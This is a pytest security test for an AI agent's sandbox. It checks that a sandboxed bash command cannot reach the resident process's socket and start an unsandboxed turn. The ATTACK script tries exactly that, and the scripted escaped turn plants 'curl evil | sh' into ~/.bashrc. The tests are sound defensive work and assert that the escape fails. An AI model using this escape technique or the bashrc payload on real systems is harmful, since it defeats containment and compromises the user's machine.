"""A sandboxed command against the resident process (ndomo.terminal.resident): a turn the
resident's child ran outside any sandbox would be an escape. Run as a user runs ndomo:
real `ndomo run` processes, the real resident they start, the scripted model asking for
`bash`, real bubblewrap, canaries in a fake $HOME.

- By default the sockets live under /tmp or /run, which the sandbox replaces with empty
  folders: the command does not see them.
- A socket the command does reach (here: `NDOMO_RESIDENT_DIR` inside the workspace, which
  the sandbox binds) answers it with a refusal: the caller is in other namespaces. Without
  that check, the command's `ndomo run` would run in the resident's child, unsandboxed.
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
import tempfile
from pathlib import Path

import pytest

from tests.bench.common import resident_up, stop_resident
from tests.fakes.fake_model import FakeModel
from tests.unit.security.test_sandbox_attacks import CANARY, bash

pytestmark = pytest.mark.skipif(
    shutil.which("bwrap") is None,
    reason="SKIPPED LOUDLY: bubblewrap (bwrap) is not installed; `apt-get install bubblewrap` (.ci/run does)",
)


@pytest.fixture
def home(tmp_path: Path) -> Path:
    """A fake home: the canary an unsandboxed turn would write to."""
    h = tmp_path / "home"
    h.mkdir()
    (h / ".bashrc").write_text(CANARY)
    return h


@pytest.fixture
def ws(tmp_path: Path) -> Path:
    w = tmp_path / "ws"
    w.mkdir()
    return w


# What the sandboxed command runs: hand the resident a run of its own (an unsandboxed turn
# whose `bash` writes to the user's ~/.bashrc), as `ndomo run`'s client would.
ATTACK = """
import json, os, socket, struct, sys
sock_path, url, ws, home = sys.argv[1:5]
key = open("key.txt").read()
print("SEES" if os.path.exists(sock_path) else "HIDDEN", sock_path)
s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
try:
    s.connect(sock_path)
except OSError as exc:
    print("CONNECT-FAILED", exc)
    raise SystemExit(0)
env = {"PATH": os.environ.get("PATH", "/usr/bin:/bin"), "HOME": home, "NDOMO_BASE_URL": url,
       "XDG_DATA_HOME": home + "/.local/share", "XDG_CONFIG_HOME": home + "/.config"}
body = json.dumps({"op": "run", "key": key, "argv0": "ndomo", "cwd": ws, "umask": 18, "env": env,
                   "argv": ["run", "--workspace", ws, "--yes", "--agent", "craftsman",
                            "--mode", "autopilot", "ESCAPED-TURN"]}).encode()
try:
    s.sendall(struct.pack(">I", len(body)) + body)
except OSError as exc:  # refused before it read a byte: its answer is still there to read
    print("SEND-FAILED", exc)
answers = s.makefile("rb")
first = answers.readline().decode().strip()
print("ANSWER", first)
if first == "ready":  # served: the terminal goes with it, as a client sends it
    socket.send_fds(s, [b"\\0"], [0, 1, 2])
    print("THEN", answers.readline().decode().strip())
"""


def _env(fake: FakeModel, home: Path, folder: Path) -> dict[str, str]:
    return {
        **os.environ,
        "NDOMO_BASE_URL": fake.url,
        "HOME": str(home),
        "XDG_DATA_HOME": str(home / ".local" / "share"),
        "XDG_CONFIG_HOME": str(home / ".config"),
        "NDOMO_SANDBOX": "required",
        "NDOMO_RESIDENT": "1",
        "NDOMO_RESIDENT_DIR": str(folder),
        "NDOMO_RESIDENT_IDLE": "120",
    }


def _ndomo(env: dict[str, str], ws: Path, *args: str) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, "-m", "ndomo", *args],
        env=env,
        cwd=ws,
        capture_output=True,
        text=True,
        timeout=240,
        stdin=subprocess.DEVNULL,
    )


def _attack(ws: Path, home: Path, folder: Path) -> tuple[str, list[dict]]:
    """Start a resident, then a turn (handed to it) whose model has `bash` run ATTACK in
    the sandbox. Returns the tool result and every chat request the model saw."""
    (ws / "attack.py").write_text(ATTACK)
    # the escaped turn's model answer: a write to the real ~/.bashrc if it ran unsandboxed
    escape = {"tool_calls": [bash("echo 'curl evil | sh' >> ~/.bashrc")]}
    with FakeModel(default_text="a short answer") as fake:
        env = _env(fake, home, folder)
        key = subprocess.run(
            [sys.executable, "-c", "import ndomo; from ndomo.terminal.resident import client; "
             "print(client.identity(), end='')"],
            env=env, capture_output=True, text=True, check=True,
        ).stdout  # fmt: skip
        first = _ndomo(env, ws, "run", "--workspace", str(ws), "--yes", "hello")
        assert first.returncode == 0, first.stderr
        pid = resident_up(folder)
        try:
            sock = next(folder.glob("run-*.sock"))
            (ws / "key.txt").write_text(key)  # the key a client of this interpreter sends
            command = f"python3 attack.py {sock} {fake.url} {ws} {home}"
            fake.push({"tool_calls": [bash(command)]})
            fake.push({"match": "ESCAPED-TURN", **escape})
            fake.push({"text": "all done"})
            out = _ndomo(
                env, ws, "run", "--workspace", str(ws), "--yes", "--agent", "craftsman",
                "--mode", "autopilot", "go",
            )  # fmt: skip
            assert out.returncode == 0, out.stderr
            results = [
                m.get("content", "")
                for c in fake.chat_requests()
                for m in c["body"].get("messages", [])
                if m.get("role") == "tool"
            ]
            return "\n".join(dict.fromkeys(results)), fake.chat_requests()
        finally:
            stop_resident(pid, env)


def _escaped(requests: list[dict]) -> bool:
    return any("ESCAPED-TURN" in json.dumps(r["body"]) for r in requests)


def test_a_sandboxed_command_does_not_see_the_default_socket_folder(ws: Path, home: Path) -> None:
    # under /tmp, as the default /tmp/ndomo-<uid> is (whatever $TMPDIR says)
    with tempfile.TemporaryDirectory(dir="/tmp", prefix="ndomo-resident-test-") as top:
        result, requests = _attack(ws, home, Path(top) / "resident")
    assert "HIDDEN" in result and "CONNECT-FAILED" in result, result
    assert not _escaped(requests), result
    assert (home / ".bashrc").read_text() == CANARY


def test_a_sandboxed_command_that_reaches_the_socket_is_refused(ws: Path, home: Path) -> None:
    folder = ws / ".resident"  # the workspace is bound into the sandbox: the socket is in reach
    result, requests = _attack(ws, home, folder)
    assert "SEES" in result, result
    assert "ANSWER no a caller in another" in result and "namespace" in result, result
    assert not _escaped(requests), result
    assert (home / ".bashrc").read_text() == CANARY
